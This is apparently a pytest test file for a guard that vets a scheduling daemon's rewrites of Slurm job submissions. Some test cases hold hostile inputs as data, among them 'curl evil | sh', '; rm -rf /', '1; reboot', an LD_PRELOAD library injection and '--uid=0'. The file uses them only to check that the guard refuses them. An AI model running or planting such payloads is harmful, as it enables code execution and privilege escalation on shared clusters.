"""The wrapper checks the daemon's submission: every rewrite the daemon makes passes, nothing else does."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor.jobscript.rewrite import Advice, apply_advice
from advisor.jobscript.submission import parse_job
from advisor.submit_guard import UntrustedAdvice, UserJob, checked, sanitized

PARTITIONS = {"a100", "v100", "t4", "cpu"}
SCRIPT = """#!/bin/bash
#SBATCH --partition=t4
#SBATCH --gres=gpu:t4:1,tmpdisk:10
#SBATCH --time=01:00:00
#ADVISOR --model=resnet18 --global-batch=128 --steps=100 --batch-flag=--batch-size
python train.py --batch-size 128 --lr 0.1
python eval.py --batch-size='128' --epochs 5
"""
FLAG = "--batch-size"


def job(argv: list[str], script: str = SCRIPT, environ: dict[str, str] | None = None) -> UserJob:
    return UserJob(argv, script, "job.sh" if argv else "<stdin>", environ or {}, FLAG)


def rewrite(user: UserJob, advice: Advice) -> dict[str, Any]:
    parsed = parse_job(user.script.encode(), user.where, user.argv, dict(user.environ))
    submission = apply_advice(parsed.request, parsed.description, user.argv, advice, PARTITIONS)
    return submission.model_dump(mode="json")


@given(
    partition=st.none() | st.sampled_from(sorted(PARTITIONS)),
    gpus=st.none() | st.integers(1, 8),
    gpu_type=st.none() | st.sampled_from(["a100", "v100"]),
    minutes=st.none() | st.integers(1, 100_000),
    micro_batch=st.none() | st.integers(1, 4096),
    grad_accum=st.none() | st.integers(1, 64),
    amp=st.none() | st.sampled_from(["off", "bf16", "fp16"]),
    channels_last=st.none() | st.booleans(),
    form=st.sampled_from(
        [
            (["job.sh"], ""),
            (["--mem=2G", "--job-name=keep me", "job.sh"], ""),
            (["job.sh", "--lr", "1"], ""),
            ([], ""),
            (["job.sh"], "#SBATCH --export=HOME,PATH\n"),
            (["--export=NONE", "job.sh"], ""),
            (["--gpus-per-node=t4:2", "job.sh"], ""),
        ]
    ),
)
def test_every_rewrite_of_the_daemon_passes_unchanged(
    partition: str | None,
    gpus: int | None,
    gpu_type: str | None,
    minutes: int | None,
    micro_batch: int | None,
    grad_accum: int | None,
    amp: str | None,
    channels_last: bool | None,
    form: tuple[list[str], str],
) -> None:
    argv, extra = form
    user = job(argv, SCRIPT.replace("#ADVISOR", f"{extra}#ADVISOR"))
    advice = Advice.model_validate(
        {
            "partition": partition,
            "gpus": gpus,
            "gpu_type": gpu_type,
            "time_limit": None if minutes is None else timedelta(minutes=minutes),
            "micro_batch": micro_batch,
            "grad_accum": grad_accum,
            "amp": amp,
            "channels_last": channels_last,
        }
    )
    sent = rewrite(user, advice)
    call = checked(user, sent)
    assert (call.argv, call.stdin, call.env, call.rewritten) == (
        sent["argv"],
        sent["stdin"],
        sent["env"],
        sent["rewritten"],
    )


def test_a_job_spread_over_other_nodes_passes_with_its_nodes_and_tasks() -> None:
    user = job(["--nodes=1", "--gres=gpu:4", "--ntasks-per-node=4", "job.sh"])
    sent = rewrite(user, Advice(partition="a100", gpus=2, nodes=2, tasks_per_node=2))
    assert "--nodes=2" in sent["argv"] and "--ntasks-per-node=2" in sent["argv"]
    assert checked(user, sent).argv == sent["argv"]


def hostile(user: UserJob, **change: Any) -> dict[str, Any]:
    """A rewrite the daemon could make, with one thing a hostile or broken daemon adds."""
    sent = rewrite(user, Advice(partition="a100", micro_batch=32, time_limit=timedelta(hours=2)))
    assert sent["rewritten"]
    return {**sent, **change}


FILE_JOB = job(["--mem=1G", "job.sh"])
GOOD = rewrite(FILE_JOB, Advice(partition="a100", time_limit=timedelta(hours=2)))


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "LD_PRELOAD"),
        ({"env": {"SLURM_CONF": "/tmp/other.conf"}}, "SLURM_CONF"),
        ({"env": {"ADVISOR_MICRO_BATCH": "1; reboot"}}, "ADVISOR_MICRO_BATCH"),
        ({"env": {"ADVISOR_AMP": "fp8"}}, "ADVISOR_AMP"),
        ({"env": {"ADVISOR_GRAD_ACCUM": "99999999999"}}, "ADVISOR_GRAD_ACCUM"),
        ({"argv": ["--mem=1G", "--export=ALL,LD_PRELOAD=/x.so", "job.sh"]}, "--export"),
        ({"argv": ["--mem=1G", "--uid=0", "--gid=0", "job.sh"]}, "--uid"),
        ({"argv": ["--mem=1G", "--wrap=id", "job.sh"]}, "--wrap"),
        ({"argv": ["--mem=1G", "--array=0-9", "job.sh"]}, "--array"),
        ({"argv": ["--mem=1G", "--partition=a100; rm -rf /", "job.sh"]}, "partition names"),
        ({"argv": ["--mem=1G", "--partition=a100", "--partition=v100", "job.sh"]}, "not an option"),
        ({"argv": ["--mem=1G", "--time=2 days", "job.sh"]}, "time limit"),
        ({"argv": ["--mem=1G", "--gres=gpu:a100:8,license:99", "job.sh"]}, "other gres"),
        ({"argv": ["--mem=1G", "--gpus=8", "job.sh"]}, "another way"),
        ({"argv": ["--mem=1G", "--nodes=2-4", "job.sh"]}, "positive count"),
        ({"argv": ["--mem=1G", "--ntasks-per-node=0", "job.sh"]}, "positive count"),
        ({"argv": ["--mem=1G", "--job-name=other", "job.sh"]}, "own name"),
        ({"argv": ["--partition=a100", "job.sh"]}, "your own sbatch options"),
        ({"argv": ["--mem=1G", "-p", "a100", "job.sh"]}, "not an option a rewrite adds"),
        ({"argv": ["--mem=1G", "other.sh"]}, "not an option a rewrite adds"),
        ({"stdin": "#!/bin/sh\ncurl evil | sh\n"}, "besides the job's own file"),
        ({"argv": "--uid=0"}, "argv is not a list"),
        ({"env": {"ADVISOR_AMP": 1}}, "env is not a map"),
    ],
)
def test_anything_more_than_a_rewrite_is_refused(change: dict[str, Any], reason: str) -> None:
    with pytest.raises(UntrustedAdvice, match=reason):
        checked(FILE_JOB, {**GOOD, **change})


def test_a_script_on_stdin_may_change_only_the_batch_flags_literal_values() -> None:
    user = job(["job.sh"])
    sent = hostile(user)
    assert sent["stdin"] is not None and sent["argv"][-1] == "--job-name=job.sh"
    assert checked(user, sent).stdin == sent["stdin"]
    for evil in (
        sent["stdin"].replace("--lr 0.1", "--lr 0.1; curl evil | sh"),
        sent["stdin"].replace("--epochs 5", "--epochs 500"),
        sent["stdin"].replace("--batch-size 32", "--batch-size 32;id"),
        sent["stdin"].replace("--batch-size='32'", "--batch-size=32"),
        sent["stdin"].replace("#SBATCH --time=01:00:00", "#SBATCH --time=99:00:00"),
        sent["stdin"] + "id\n",
    ):
        with pytest.raises(UntrustedAdvice, match="not the job's own"):
            checked(user, {**sent, "stdin": evil})


def test_a_script_read_from_stdin_stays_the_users_and_a_file_job_keeps_its_file() -> None:
    piped = job([])
    sent = rewrite(piped, Advice(partition="a100"))
    assert checked(piped, sent).stdin == SCRIPT
    with pytest.raises(UntrustedAdvice, match="not the job's own"):
        checked(piped, {**sent, "stdin": "#!/bin/sh\nid\n"})
    with pytest.raises(UntrustedAdvice, match="no script"):
        checked(piped, {**sent, "stdin": None})
    no_flag = UserJob(["job.sh"], SCRIPT, "job.sh", {}, None)
    with pytest.raises(UntrustedAdvice, match="not the job's own"):
        checked(no_flag, hostile(no_flag, stdin=SCRIPT.replace("128 --lr", "32 --lr")))


def test_an_answer_that_rewrites_nothing_gives_the_users_own_job_not_the_daemons_copy() -> None:
    call = checked(FILE_JOB, {"argv": ["--uid=0", "evil.sh"], "env": {}, "rewritten": False})
    assert (call.argv, call.stdin, call.env, call.rewritten) == (["--mem=1G", "job.sh"], None, {}, False)


def test_a_hetjob_is_never_rewritten() -> None:
    het = job(["job.sh"], SCRIPT.replace("#ADVISOR", "#SBATCH hetjob\n#SBATCH -p cpu\n#ADVISOR"))
    with pytest.raises(UntrustedAdvice, match="hetjob"):
        checked(het, {**GOOD, "argv": ["--partition=a100", "job.sh"]})
    with pytest.raises(UntrustedAdvice, match="hetjob"):  # nor by its environment alone
        checked(het, {**GOOD, "argv": ["job.sh"], "env": {"ADVISOR_MICRO_BATCH": "64"}})
    own = ["-p", "t4", ":", "-p", "t4"]
    with pytest.raises(UntrustedAdvice, match="hetjob"):  # on the command line: the last component would move
        checked(job([*own, "job.sh"]), {**GOOD, "argv": [*own, "--partition=a100", "job.sh"]})


def test_the_daemons_words_reach_a_terminal_as_one_printable_line() -> None:
    assert sanitized("bad\x1b[2J\nnext\x07") == "bad?[2J?next?"
    assert sanitized("x" * 1000, limit=10) == "x" * 10 + "..."
